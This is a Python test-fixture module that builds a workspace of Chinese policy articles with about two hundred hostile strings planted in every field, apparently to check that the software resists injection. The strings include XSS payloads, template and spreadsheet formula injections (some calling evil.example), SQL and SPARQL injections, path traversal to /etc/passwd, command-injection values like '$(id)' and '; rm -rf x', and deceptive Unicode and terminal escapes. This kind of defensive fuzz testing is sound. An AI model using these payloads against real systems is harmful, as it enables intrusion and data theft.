"""Two hundred texts that try to get out of wherever they are put, made by code; and a workspace full of them."""

from __future__ import annotations

from pathlib import Path

from policygraph.graph.workspace import Workspace
from policygraph.schema.article import Article, Source
from policygraph.schema.record import Entity, Mention, Metric, Record, Relation

MARK = "pwned"  # what a script among the texts would leave behind
_RUN = f"window.{MARK}=1;alert(1)"
_SEEDS = (
    # pages
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}',
    f"' onfocus='{_RUN}' autofocus='",
    f"`{_RUN}`",
    f"javascript:{_RUN}",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    "<!--",
    "<!--<script>",
    "<![CDATA[",
    "<plaintext>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=csrf>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;",
    "&",
    "\u003cscript\u003e",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    # scripts and templates
    "${7*7}",
    "{{7*7}}",
    "{% for x in y %}",
    "{#",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0}",
    "{name}",
    "%s%n%x",
    "%(x)s",
    "$x",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "undefined",
    "null",
    "NaN",
    "true",
    # spreadsheets
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '=WEBSERVICE("http://evil.example")',
    "=IMPORTXML(1)",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    # terminals
    "\x1b[31m红\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "\x9b31m红",
    "\x1b[2J\x1b[H",
    "\x08\x08\x08",
    "\r覆盖",
    "\x07",
    "\x00",
    "a\x00b",
    "\x7f",
    "\x85",
    "\x0b\x0c",
    "[red]红[/red]",
    "[link=x]y[/link]",
    # scripts of the world
    "\u202e倒写公司",
    "\u2066甲\u2069",
    "\u200f右",
    "\u200b零宽",
    "\ufeff标记",
    "甲\u2028乙",
    "甲\u2029乙",
    "e\u0301" * 40,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "👩‍👩‍👧‍👦",
    "ＡＢＣ",
    "𠮷野家",
    "\U000e0041",
    "\ufffd",
    "\ud7ff",
    # queries
    "'; DROP TABLE articles; --",
    '" OR 1=1 --',
    "Robert'); DROP TABLE names;--",
    "%",
    "_",
    "\\",
    "'",
    '"',
    '"""',
    "'''",
    '\\"',
    "\\'",
    '" . <x:a> <x:b> <x:c> . #',
    "> . <x:a> <x:b> <x:c> .",
    "<http://evil.example/>",
    "} DROP ALL {",
    '"@en',
    '"^^<x:y>',
    "# comment",
    "?x",
    "_:b",
    "\\u0022",
    "\\U00000022",
    "*",
    "NEAR(a b)",
    '"unbalanced',
    "a AND",
    "^",
    # files
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\x",
    "CON",
    "NUL.txt",
    "a/b",
    ".",
    "..",
    "~",
    "$(id)",
    "`id`",
    "; rm -rf x",
    "| id",
    "&& id",
    "-rf",
    "--help",
    "file:///etc/passwd",
    "data:text/html,x",
    "\\\\evil.example\\x",
    # sizes
    "长" * 10_000,
    "<" * 3_000,
    "(" * 3_000,
    "a" * 300,
    " " * 50,
    "\t" * 20,
    "\n" * 20,
    "",
)


def texts() -> list[str]:
    """At least two hundred hostile texts; each once."""
    wrapped = [f"慈溪{seed}公司" for seed in _SEEDS[:60]]
    return list(dict.fromkeys((*_SEEDS, *wrapped)))


def article(number: int, hostile: str) -> tuple[Article, Record]:
    """An article that has a hostile text wherever it can have one."""
    body = f"云江市与{hostile}合作。到2025年{hostile}达到3万{hostile}。"
    where = {"start_offset": 0, "end_offset": len(body)}
    source = Source(
        title=f"{hostile}通知", published="2024-01-20", publisher=hostile, place="云江市",
        url=f"https://example.org/{number}?{hostile[:40]}",
    )  # fmt: skip
    start = body.index("与") + 1
    city = Mention(name="云江市", start_offset=0, end_offset=3)
    other = Mention(name=hostile, start_offset=start, end_offset=start + len(hostile))
    types = ("Enterprise", "Program", "Platform", "Honour", "PolicyDocument")
    record = Record(
        id=f"h{number}", source=source, text=body,
        entities=(
            Entity(id="e1", type="Place", names=("云江市",), mentions=(city,)),
            Entity(id="e2", type=types[number % len(types)], names=(hostile,), mentions=(other,)),
        ),
        relations=(Relation(subject="e1", predicate="implements", object="e2", quote=body, rule=hostile, **where),),
        metrics=tuple(
            Metric(id=f"m{at}", status=status, indicator=hostile, value=3, unit=hostile, measure="level",
                   comparator=">", end="2025", subject=bearer, quote=body, rule=hostile, **where)
            for at, (status, bearer) in enumerate((("target", "e1"), ("actual", "e2")))
        ),
        extractor="hostile-1",
    )  # fmt: skip
    return Article(id=f"h{number}", text=body, source=source), record


def build(folder: Path) -> list[str]:
    """Make a workspace of hostile texts; what the articles were that it would not take, with the reason."""
    refused = []
    with Workspace.open(folder, create=True) as workspace:
        for number, hostile in enumerate(texts()):
            try:
                made = article(number, hostile)
            except ValueError as error:
                refused.append(f"{hostile[:30]!r}: {type(error).__name__} {str(error)[:200]}")
                continue
            outcome = workspace.add(*made)
            if outcome.state == "failed":
                refused.append(f"{hostile[:30]!r}: {outcome.error}")
        workspace.track()
    return refused
